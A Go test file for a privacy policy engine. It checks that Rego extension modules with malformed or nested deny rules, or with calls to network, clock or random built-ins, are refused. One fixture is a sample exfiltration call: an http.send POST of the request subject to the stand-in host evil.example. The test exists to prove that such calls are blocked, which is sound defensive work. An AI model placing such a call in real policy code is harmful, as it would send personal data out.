package policies_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/privacykit/privacy"
	"github.com/privacykit/privacy/policies"
)

// TestExtensionRulesMustBeSets: a deny or obligation rule of another kind
// would be skipped and allow what its author meant to deny; New refuses it.
func TestExtensionRulesMustBeSets(t *testing.T) {
	t.Parallel()
	for name, src := range map[string]string{
		"deny as a boolean":      "package privacy.ext.x\n\ndeny := true\n",
		"deny as an object":      "package privacy.ext.x\n\ndeny := {\"code\": \"x\", \"message\": \"y\"}\n",
		"obligation as a string": "package privacy.ext.x\n\nobligation := \"notify\"\n",
		"deny as a function":     "package privacy.ext.x\n\ndeny(x) := x\n",
	} {
		if _, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("x.rego", src)); !errors.Is(err, privacy.ErrInvalid) {
			t.Errorf("%s: error %v, want one wrapping privacy.ErrInvalid", name, err)
		}
	}
	ok := "package privacy.ext.x\n\ndeny contains {\"code\": \"x.no\", \"message\": \"no\"} if input.request.purpose == \"referral\"\n\nhelper := true\n"
	if _, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("x.rego", ok)); err != nil {
		t.Errorf("a well-formed module: %v", err)
	}
}

// TestExtensionRulesThePolicyWouldNotRead: a module in a nested package
// (privacy.ext.a.b), or whose deny rule sits deeper in its package, added
// nothing: the request its author meant to deny was allowed. New and
// bundles refuse such a module, naming the package or the rule.
func TestExtensionRulesThePolicyWouldNotRead(t *testing.T) {
	t.Parallel()
	const deny = "contains {\"code\": \"x.no\", \"message\": \"no\"} if input.request.purpose == \"billing\"\n"
	for name, tc := range map[string]struct{ src, want string }{
		"nested package":      {"package privacy.ext.a.b\n\ndeny " + deny, "package privacy.ext.a.b is nested"},
		"nested obligation":   {"package privacy.ext.a.b.c\n\nobligation " + deny, "package privacy.ext.a.b.c is nested"},
		"deny deeper in path": {"package privacy.ext.a\n\nb.deny " + deny, "rule b.deny at line 3 would not be read"},
	} {
		_, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("x.rego", tc.src))
		if !errors.Is(err, privacy.ErrInvalid) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "x.rego") {
			t.Errorf("%s: New error %v, want one wrapping privacy.ErrInvalid naming x.rego and containing %q", name, err, tc.want)
		}
	}
	// A bundle goes the same way.
	dir := writeBundle(t, map[string]string{"catalog.yaml": reference(), "ext/nested.rego": "package privacy.ext.a.b\n\ndeny " + deny})
	b, err := policies.LoadBundle(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithBundle(b)); err == nil || !strings.Contains(err.Error(), "privacy.ext.a.b") {
		t.Errorf("New with a bundle holding a nested package: error %v, want one naming privacy.ext.a.b", err)
	}
	// One level under privacy.ext is read: the request is denied.
	eng, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("x.rego", "package privacy.ext.a_b\n\ndeny "+deny))
	if err != nil {
		t.Fatal(err)
	}
	d, err := eng.Decide(t.Context(), privacy.Request{Subject: privacy.Subject{ID: "u-1", Kind: privacy.SubjectUser, Country: "NL"},
		Purpose: "billing", Data: []string{"instance.contact.email"}})
	if err != nil || d.Allowed || !d.Has("x.no") {
		t.Errorf("decision %v, %v: want a denial with reason x.no", d.Codes(), err)
	}
}

// TestExtensionCapabilities: extension modules cannot reach the network,
// the runtime, a clock or randomness of their own; New refuses them naming
// the module and the function. Before, http.send compiled and could send
// personal data out.
func TestExtensionCapabilities(t *testing.T) {
	t.Parallel()
	for fn, call := range map[string]string{
		"http.send":          `http.send({"method": "POST", "url": "https://evil.example/", "body": input.subject})`,
		"net.lookup_ip_addr": `net.lookup_ip_addr("evil.example")`,
		"opa.runtime":        `opa.runtime()`,
		"time.now_ns":        `time.now_ns()`,
		"rand.intn":          `rand.intn("x", 10)`,
		"uuid.rfc4122":       `uuid.rfc4122("x")`,
	} {
		for shape, src := range map[string]string{
			"in a rule body":  "package privacy.ext.leak\n\ndeny contains {\"code\": \"x\", \"message\": \"y\"} if {\n\tr := " + call + "\n\tr == 1\n}\n",
			"in a rule value": "package privacy.ext.leak\n\nv := " + call + "\n",
			"as a statement":  "package privacy.ext.leak\n\nok if {\n\t" + call + "\n}\n",
		} {
			_, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("leak.rego", src))
			if !errors.Is(err, privacy.ErrInvalid) || !strings.Contains(err.Error(), "leak.rego") || !strings.Contains(err.Error(), fn) {
				t.Errorf("%s %s: New error %v, want one wrapping privacy.ErrInvalid naming leak.rego and %s", fn, shape, err, fn)
			}
		}
	}
	// Pure functions stay available.
	ok := "package privacy.ext.pure\n\ndeny contains {\"code\": \"x\", \"message\": sprintf(\"%d\", [count(input.request.data)])} if time.parse_rfc3339_ns(\"2026-01-01T00:00:00Z\") > input.now_ns\n\nchanges contains time.parse_rfc3339_ns(\"2026-01-01T00:00:00Z\")\n"
	if _, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("pure.rego", ok)); err != nil {
		t.Errorf("a module using pure built-in functions: %v", err)
	}
}

// TestObligationsOnlyForAllowed: a denial carries no obligations, and the
// policy does not evaluate them for one. An obligation rule that fails at
// evaluation fails the decisions it would have added to (allowed ones,
// closed), and a denial keeps the reasons it is denied for.
func TestObligationsOnlyForAllowed(t *testing.T) {
	t.Parallel()
	const boom = `package privacy.ext.boom

obligation contains {"code": "ext.boom", "message": x} if {
	x := sprintf("%d", [1 / 0])
}
`
	e, err := policies.New(t.Context(), policies.WithMemoryStores(), policies.WithModule("boom.rego", boom))
	if err != nil {
		t.Fatal(err)
	}
	allowed := req(user, "support", "instance.contact.email")
	d, err := e.Decide(t.Context(), allowed)
	if !errors.Is(err, privacy.ErrEvaluation) || d.Allowed || !slices.Equal(d.Codes(), []string{privacy.ReasonEvaluationFailed}) {
		t.Errorf("allowed request, failing obligation: %v %v, want evaluation.failed", d.Codes(), err)
	}
	denied := allowed
	denied.AutomatedDecision = true
	d, err = e.Decide(t.Context(), denied)
	if err != nil || d.Allowed || !slices.Equal(d.Codes(), []string{privacy.ReasonAutomatedDecisionNotAllowed}) || len(d.Obligations) != 0 {
		t.Errorf("denied request, failing obligation: %v %v %v, want %s and no obligations", d.Codes(), d.Obligations, err, privacy.ReasonAutomatedDecisionNotAllowed)
	}
}
